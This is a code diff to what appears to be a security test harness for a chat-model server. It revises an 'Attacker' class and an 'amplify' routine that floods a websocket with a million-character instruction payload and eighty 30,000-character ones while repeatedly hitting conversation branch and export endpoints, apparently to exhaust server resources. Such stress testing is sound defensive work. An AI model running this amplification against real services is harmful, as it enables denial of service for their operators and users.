@@ -50,7 +50,7 @@ class Attacker:
 
     def socket(self, headers: dict[str, str], query: str = "") -> connect:
         options = {"max_size": None, "ping_interval": None, "proxy": None, "open_timeout": 5, "close_timeout": 1}
-        protocols = [Subprotocol("chat.v1")]
+        protocols = [Subprotocol("chat.v2")]
         url = f"ws://{self.address}/ws{query}"
         return connect(url, subprotocols=protocols, additional_headers=headers, **options)  # type: ignore[arg-type]
 
@@ -103,13 +103,12 @@ async def keep_the_tokenizer_busy(attacker: Attacker) -> None:
 
 
 async def amplify(attacker: Attacker) -> None:
+    id = (await attacker.http.post("/v1/conversations", headers=attacker.mallory)).json()["id"]
+    asked = {"type": "response.create", "input": "Hi", "conversation": id, "max_output_tokens": 1, "truncation": "auto"}
     async with attacker.socket(attacker.mallory) as socket:
-        for size in (1_000_000, 30_000):
-            await socket.send(json.dumps({"type": "session.update", "session": {"instructions": "x" * size}}))
-        id = json.loads(await socket.recv())["session"]["conversation"]
-        for _ in range(80):
-            await socket.send('{"type": "response.create", "response": {"input": "Hi", "max_output_tokens": 1}}')
-            await attacker.http.get(f"/v1/conversations/{id}", headers=attacker.mallory)
+        for size in (1_000_000, *80 * [30_000]):
+            await socket.send(json.dumps(asked | {"instructions": "x" * size}))
+            await attacker.http.get(f"/v1/conversations/{id}/branch", headers=attacker.mallory)
         await attacker.http.get(f"/v1/conversations/{id}/export?format=json", headers=attacker.mallory)
 
 
